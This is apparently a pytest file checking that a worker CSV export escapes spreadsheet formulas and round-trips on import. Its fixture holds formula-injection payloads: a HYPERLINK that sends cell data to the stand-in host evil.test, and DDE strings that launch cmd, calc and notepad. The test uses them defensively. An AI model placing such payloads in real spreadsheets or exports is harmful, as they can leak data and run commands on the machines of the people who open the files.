"""The worker export opens safely in a spreadsheet: no cell runs as a formula, phones stay readable."""
import csv
import io
import re

import pytest
from sqlalchemy import select

from core.spreadsheet import plain_cell, safe_cell
from tests import factories
from workers.imports import import_workers
from workers.models import Worker

NUMBER = re.compile(r"-?\d+(\.\d+)?")
HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.test/?d="&A2,"Click me")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "  -2+3+cmd|' /C notepad'!A0",
    "notes": "\t=1+1",
    "email": "+x@evil.test",
}


def spreadsheet_runs_it(cell: str) -> bool:
    """Whether Excel, LibreOffice or Google Sheets would take the cell for a formula (a plain number is not one)."""
    if NUMBER.fullmatch(cell):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def exported(client) -> list[dict]:
    response = client.get("/workers/export.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_the_export_holds_no_cell_a_spreadsheet_would_run(client, auth, db, network):
    hostile = factories.worker(network.moscow, phone="+79120000777", lat=51.5, lon=-0.12, **HOSTILE)
    auth.login(network.admin.email)
    rows = exported(client)
    assert len(rows) == 3
    for row in rows:
        assert [c for c in row.values() if spreadsheet_runs_it(c)] == []
    row = next(r for r in rows if r["phone"].endswith("+79120000777"))
    assert row["phone"] == "'+79120000777"  # the phone reads as the phone, as text
    assert row["first_name"] == "'" + HOSTILE["first_name"] and row["notes"] == "'" + HOSTILE["notes"]
    assert (row["lat"], row["lon"]) == ("51.5", "-0.12")  # numbers stay numbers, negative or not
    assert hostile.first_name == HOSTILE["first_name"]  # the card keeps what was typed


def test_an_exported_file_imports_back_unchanged(client, auth, db, network):
    factories.worker(network.moscow, phone="+79120000778", **{**HOSTILE, "email": None, "notes": "'quoted' note"})
    auth.login(network.admin.email)
    response = client.get("/workers/export.csv")
    db.session.execute(Worker.__table__.update().values(first_name="x", last_name="y", address=None, notes=None))
    db.session.commit()
    report = import_workers(response.get_data(), on_duplicate="merge")
    assert report.ok and report.merged == 3, report.errors
    db.session.expire_all()
    worker = db.session.scalars(select(Worker).where(Worker.phone == "+79120000778")).one()
    assert (worker.first_name, worker.last_name, worker.address, worker.notes) == (
        HOSTILE["first_name"], HOSTILE["last_name"], HOSTILE["address"].strip(), "'quoted' note")


@pytest.mark.parametrize("text", ["=1+1", "+79121234567", "-1", "@A1", "\tx", "\rx", " =1", "'=1", "''+7", "'plain",
                                  "plain", "", "Иван", "＝1+1", "1-2", "a=b"])
def test_plain_cell_undoes_safe_cell_exactly(text):
    written = safe_cell(text)
    assert not spreadsheet_runs_it(written)
    assert plain_cell(written) == text
